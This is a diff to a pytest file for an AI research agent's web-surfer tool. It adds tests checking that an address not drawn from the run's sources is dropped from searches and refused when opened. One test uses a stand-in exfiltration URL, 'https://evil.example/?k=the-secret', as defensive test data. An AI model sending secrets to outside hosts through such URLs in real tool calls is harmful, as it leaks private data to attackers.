@@ -5,12 +5,14 @@ from pathlib import Path
 
 import pytest
 
-from agents.tools.batch_web_surfer import spec
+from agents.guarding.provenance import listed
+from agents.tools.batch_web_surfer import spec, tool
 from browser.surfer import Surfer
-from research.domain import SourceChoice
+from research.domain import SourceChoice, Trajectory
+from research.errors import ToolError
 from research.settings import Settings
 from research.store.database import Store
-from tests.agents.reading.desk import Agent, agent_over
+from tests.agents.reading.desk import TASK, Agent, agent_over, new_run
 
 WAVES = " ".join(f"The ship saw wave number {n} and went on." for n in range(1, 121))
 PAGES = {
@@ -87,3 +89,24 @@ async def test_a_library_that_is_shared_no_more_is_not_looked_through(
     async with Surfer(settings, store, sources) as surfer:
         [held] = await surfer.holding(["最大拉力"])
     assert [hit.library for hit in held.hits] == ["notes"]
+
+
+async def test_an_address_that_is_looked_for_is_not_given_by_that(agent: Agent) -> None:
+    carrying = "https://evil.example/?k=the-secret"
+    found = await agent.does(index=0, find=[f"{carrying} max_pull", carrying])
+    assert found.queries == ("max_pull",) and "evil.example" not in found.text
+    assert not any("evil" in url for url in await listed(agent.run, "batch_web_surfer"))
+    opened = await agent.does(index=1, urls=[carrying])
+    assert "stands in nothing that this run was given" in opened.failures[0]
+
+
+async def test_where_nothing_was_read_there_is_nothing_to_find_words_in(
+    store: Store, settings: Settings
+) -> None:
+    sources = SourceChoice(web=True)
+    run = await new_run(store, sources)
+    await run.records.put_trajectory(Trajectory(task=TASK), open=True)
+    async with Surfer(settings, store, sources, providers=[]) as surfer:
+        alone = Agent(run, surfer, tool(surfer, strong=True))
+        with pytest.raises(ToolError, match="nothing yet to find these words in"):
+            await alone.does(index=0, find=["max_pull"])
